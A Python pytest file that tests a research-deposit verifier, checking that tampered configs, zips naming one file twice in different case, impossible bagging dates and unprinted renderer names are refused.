def test_a_deposited_config_not_as_the_pipeline_writes_it_is_refused(
    deposit, checkout, tmp_path, edit, message
):
    def change(payload: Path) -> None:
        config = payload / "public/config.yaml"
        config.write_text(edit(config.read_text(encoding="utf-8")), encoding="utf-8")

    bag = tampered(deposit, tmp_path / "in", change)
    with pytest.raises(VerificationError, match=message):
        verify_deposit(bag, tmp_path / "scratch", checkout=checkout)
    assert not (tmp_path / "scratch" / bag.name / "rerun" / "rerun.log").exists()


def test_split_zips_naming_one_file_twice_even_in_other_case_are_refused(tmp_path):
    for number, name in ((1, "study/data/README.md"), (2, "study/data/readme.md")):
        with zipfile.ZipFile(tmp_path / f"study.part{number}-of-2.zip", "w") as archive:
            archive.writestr("study/bagit.txt" if number == 1 else "study/other.txt", "x\n")
            archive.writestr(name, "text\n")
    with pytest.raises(VerificationError, match="is in the deposit's zips twice"):
        verify_deposit(tmp_path / "study.part2-of-2.zip", tmp_path / "scratch")


def test_a_bagging_date_that_is_no_date_is_refused(deposit, tmp_path):
    bag = tampered(deposit, tmp_path / "in", lambda p: None, info={"Bagging-Date": "2025-02-30"})
    with pytest.raises(VerificationError, match="Bagging-Date as YYYY-MM-DD"):
        verify_deposit(bag, tmp_path / "scratch")


def test_a_renderer_the_documents_do_not_print_cannot_excuse_them(deposit):
    from peacekeeping_interviews.archive.bag_comparison import _documents_name, _engine

    assert _documents_name(deposit, _engine(deposit))
    assert not _documents_name(deposit, "Quarto 1.6.40")
